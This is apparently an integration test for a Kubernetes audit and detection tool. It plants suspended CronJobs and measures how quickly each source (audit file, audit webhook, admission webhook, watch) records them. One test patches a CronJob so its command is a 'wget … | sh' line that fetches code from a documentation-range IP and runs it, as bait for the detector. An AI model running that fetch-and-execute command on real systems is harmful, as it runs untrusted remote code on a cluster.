/**
 * Everything at once on a real API server: admission, file, webhook and watch, each as a cluster of its own and admission and file together. How
 * soon what is planted is stored, and that one change is one incident. Planted objects are suspended and name documentation addresses.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { parse } from 'yaml';
import type { Finding } from '../../src/model/finding.ts';
import type { JsonObject } from '../../src/model/json.ts';
import { isObject, listAt } from '../../src/model/json.ts';
import { sqliteReader } from '../../src/stores/sqlite/sqlite-store.ts';
import { newFolder, root } from '../cli/run-watchbill.ts';
import type { Watching } from '../cli/watch.ts';
import { freePort, startWatch } from '../cli/watch.ts';
import { skipWithout } from './cluster.ts';
import type { ControlPlane } from './control-plane.ts';
import { findControlPlane, startControlPlane, until } from './control-plane.ts';
import { planted } from './planted.ts';
import { request } from './request.ts';

const policy = `
apiVersion: audit.k8s.io/v1
kind: Policy
omitStages: [RequestReceived]
rules:
- {level: None, resources: [{group: "", resources: [events]}, {group: coordination.k8s.io}]}
- {level: RequestResponse, verbs: [create, update, patch, delete], resources: [{group: batch}, {group: apps}, {group: "", resources: [pods]}]}
- {level: Metadata}
`;

const found = findControlPlane();
const skip = skipWithout(found);
const changes = Number(process.env['WATCHBILL_LAB_CHANGES'] ?? 30);
/** Milliseconds for which nobody listens. */
const away = Number(process.env['WATCHBILL_LAB_AWAY'] ?? 2_000);
const ways = ['admission', 'both', 'file', 'watch', 'webhook'];

describe('a live watch by every way', { skip }, () => {
  let plane: ControlPlane;
  let watching: Watching;
  let words: readonly string[] = [];
  const folder = newFolder();
  const state = join(folder, 'state');
  const file = (name: string): string => join(folder, name);

  const findings = (name: string): readonly Finding[] => {
    const reader = sqliteReader(state);
    const all = [...reader.findings({ severity: 'high' })].map(({ item }) => item);
    reader.close();
    return all.filter(({ workload }) => workload.name === name);
  };
  const waysOf = (name: string): readonly string[] => [
    ...new Set(
      findings(name)
        .filter(({ detector }) => detector.type === 'cel')
        .map(({ workload }) => workload.cluster),
    ),
  ];
  const refused = (): readonly unknown[] => {
    const reader = sqliteReader(state);
    const all = reader.refusals();
    reader.close();
    return all;
  };
  const create = async (name: string): Promise<void> => {
    const path = `${plane.url}/apis/batch/v1/namespaces/default/cronjobs`;
    const answer = await request(path, { token: 'alice-token', method: 'POST', body: planted(name) });
    assert.equal(answer.code, 201, answer.body);
  };
  /** Milliseconds from the server's answer until the finding is stored, for each way. */
  const timed = async (name: string): Promise<ReadonlyMap<string, number>> => {
    await create(name);
    const began = performance.now();
    const times = new Map<string, number>();
    while (times.size < ways.length && performance.now() - began < 60_000) {
      for (const way of waysOf(name)) if (!times.has(way)) times.set(way, performance.now() - began);
      await sleep(20);
    }
    return times;
  };
  const certificate = (): void => {
    const words = ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=watchbill'];
    const more = [
      '-addext',
      'subjectAltName=IP:127.0.0.1',
      '-keyout',
      file('tls.key'),
      '-out',
      file('tls.crt'),
    ];
    execFileSync('openssl', [...words, ...more], { stdio: 'ignore' });
  };
  /** As it is shipped, once for each address. */
  const configuration = (urls: ReadonlyMap<string, string>): JsonObject => {
    const shipped: JsonObject = parse(
      readFileSync(join(root, 'docs/reference/admission.webhook.yaml'), 'utf8'),
    );
    const [webhook] = listAt(shipped, 'webhooks');
    const caBundle = readFileSync(file('tls.crt')).toString('base64');
    const webhooks = [...urls].map(([name, url]) => ({
      ...(isObject(webhook) ? webhook : {}),
      name: `${name}.watchbill.example`,
      clientConfig: { url, caBundle },
    }));
    return { ...shipped, webhooks };
  };

  before(async () => {
    assert.ok('path' in found, 'missing' in found ? found.missing : '');
    const [hook, admission] = [await freePort(), await freePort()];
    const auditWebhook = JSON.stringify({
      apiVersion: 'v1',
      kind: 'Config',
      'current-context': 'watch',
      clusters: [{ name: 'watch', cluster: { server: `http://127.0.0.1:${hook}/lab` } }],
      users: [{ name: 'apiserver', user: {} }],
      contexts: [{ name: 'watch', context: { cluster: 'watch', user: 'apiserver' } }],
    });
    plane = await startControlPlane(found.path, { auditPolicy: policy, auditWebhook });
    const grant = ['--clusterrole', 'cluster-admin', '--user', 'alice@corp.example'];
    plane.kubectl('admin', ['create', 'clusterrolebinding', 'alice', ...grant]);
    certificate();
    writeFileSync(file('path-token'), 'a-secret-of-the-path');
    const tls = `cert-file=${file('tls.crt')},key-file=${file('tls.key')},path-token-file=${file('path-token')}`;
    words = [
      ...['--state', state],
      ...['--source', `audit-file:${plane.auditLog},cluster=file`],
      ...['--source', `audit-file:${plane.home}/./audit.log,cluster=both`],
      ...['--source', `audit-webhook:127.0.0.1:${hook},cluster=webhook,path=/lab`],
      ...['--source', `kubernetes-watch:${plane.kubeconfig},cluster=watch`],
      ...['--source', `admission:127.0.0.1:${admission},cluster=admission,path=/one,${tls}`],
      ...['--source', `admission:127.0.0.1:${admission},cluster=both,path=/two,${tls}`],
    ];
    watching = await startWatch(words);
    const url = (path: string): string => `https://127.0.0.1:${admission}/${path}/a-secret-of-the-path`;
    const hooks = configuration(
      new Map([
        ['one', url('one')],
        ['two', url('two')],
      ]),
    );
    plane.kubectl('admin', ['apply', '-f', '-'], JSON.stringify(hooks));
    let tries = 0;
    await until('the webhook', async () => {
      tries += 1;
      await create(`probe-${tries}`);
      await sleep(500);
      return waysOf(`probe-${tries}`).includes('admission');
    });
  });

  after(async () => {
    await watching?.kill('SIGTERM');
    await plane?.stop();
  });

  test('what is planted is found by every way, soon after the answer', async context => {
    const all = new Map<string, number[]>(ways.map(way => [way, []]));
    for (let number = 0; number < changes; number += 1) {
      const times = await timed(`planted-${number}`);
      for (const [way, list] of all) list.push(times.get(way) ?? Number.POSITIVE_INFINITY);
    }
    for (const [way, times] of all) {
      const sorted = times.toSorted((a, b) => a - b);
      const at = (share: number): number => Math.round(sorted[Math.ceil(share * sorted.length) - 1] ?? 0);
      context.diagnostic(
        `${way}: median ${at(0.5)} ms, p99 ${at(0.99)} ms, worst ${at(1)} ms, of ${times.length}`,
      );
      const missed = times.flatMap((time, number) => (Number.isFinite(time) ? [] : [`planted-${number}`]));
      assert.deepEqual(missed, [], `${way}: ${JSON.stringify(refused())} ${watching.said()}`);
    }
    context.diagnostic(`refused: ${JSON.stringify(refused()).slice(0, 500)}`);
    const log = plane.kubectl('admin', ['get', '--raw', '/metrics']);
    const of = (name: string, labels: string): number =>
      Number(new RegExp(`^${name}\\{${labels}\\} (\\S+)$`, 'm').exec(log)?.[1] ?? 0);
    const hook = 'apiserver_admission_webhook_admission_duration_seconds';
    const labels = 'name="one.watchbill.example",operation="CREATE",rejected="false",type="validating"';
    const mean = of(`${hook}_sum`, labels) / of(`${hook}_count`, labels);
    const buckets = [
      ...log.matchAll(
        new RegExp(`^${hook}_bucket\\{${labels.replace(',type', ',type')},le="(\\S+)"\\} (\\S+)$`, 'gm'),
      ),
    ];
    context.diagnostic(
      `the server waited for the decision: mean ${(mean * 1000).toFixed(1)} ms; ${buckets.map(([, le, count]) => `<=${le}s: ${count}`).join(', ')}`,
    );
  });

  test('told by a webhook of admission and by the log, it is one incident, and each rule speaks once', async () => {
    await create('once');
    await until('all ways', () => waysOf('once').length === ways.length);
    await sleep(2_000);
    const reader = sqliteReader(state);
    const all = [...reader.findings({})].map(({ item }) => item);
    const incidents = [...reader.incidents({})].map(({ item }) => item);
    reader.close();
    const both = all.filter(({ workload }) => workload.name === 'once' && workload.cluster === 'both');
    const ids = both.map(({ detector }) => detector.id);
    assert.equal(new Set(ids).size, ids.length, ids.join(' '));
    assert.equal(
      incidents.filter(({ workload }) => workload.name === 'once' && workload.cluster === 'both').length,
      1,
    );
    const [seen] = all.filter(({ workload }) => workload.name === 'once' && workload.cluster === 'admission');
    assert.equal(seen?.actor?.user, 'alice@corp.example');
    assert.ok(seen.visibility.missing.includes('responseStatus'));
  });

  test('what changed is told from what the server says was there before', async () => {
    const path = `${plane.url}/apis/batch/v1/namespaces/default/cronjobs/once`;
    const headers = { 'content-type': 'application/merge-patch+json' };
    const command = ['sh', '-c', 'wget -qO- http://203.0.113.9/y | sh'];
    const containers = [{ name: 'main', image: 'registry.example/tool:1', command }];
    const body = { spec: { jobTemplate: { spec: { template: { spec: { containers } } } } } };
    assert.equal((await request(path, { token: 'alice-token', method: 'PATCH', headers, body })).code, 200);
    const changed = (): boolean => {
      const reader = sqliteReader(state);
      const incidents = [...reader.incidents({})].map(({ item }) => item);
      reader.close();
      const one = incidents.find(
        ({ workload }) => workload.name === 'once' && workload.cluster === 'admission',
      );
      return (
        one?.changes?.some(({ from, to }) => from.includes('198.51.100.7') && to.includes('203.0.113.9')) ===
        true
      );
    };
    await until('the change', changed);
  });

  test('a dry run is asked about and changes nothing', async () => {
    const path = `${plane.url}/apis/batch/v1/namespaces/default/cronjobs?dryRun=All`;
    const answer = await request(path, { token: 'alice-token', method: 'POST', body: planted('rehearsed') });
    assert.equal(answer.code, 201);
    await sleep(2_000);
    const made = findings('rehearsed').filter(({ action }) => action.outcome === 'allowed');
    assert.deepEqual(made, []);
  });

  test('killed, nothing is blocked, and what the log and the watch tell of is found when it is back, once', async () => {
    const gone = once(watching.child, 'close');
    watching.child.kill('SIGKILL');
    await gone;
    await create('while-away');
    await sleep(away);
    watching = await startWatch(words);
    const expected = ['both', 'file', 'watch', 'webhook'];
    await until('what can be found', () => waysOf('while-away').length === expected.length, 120);
    assert.deepEqual(waysOf('while-away').toSorted(), expected);
    assert.ok(!readFileSync(join(state, 'watchbill.db')).includes('a-secret-of-the-path'));
  });
});
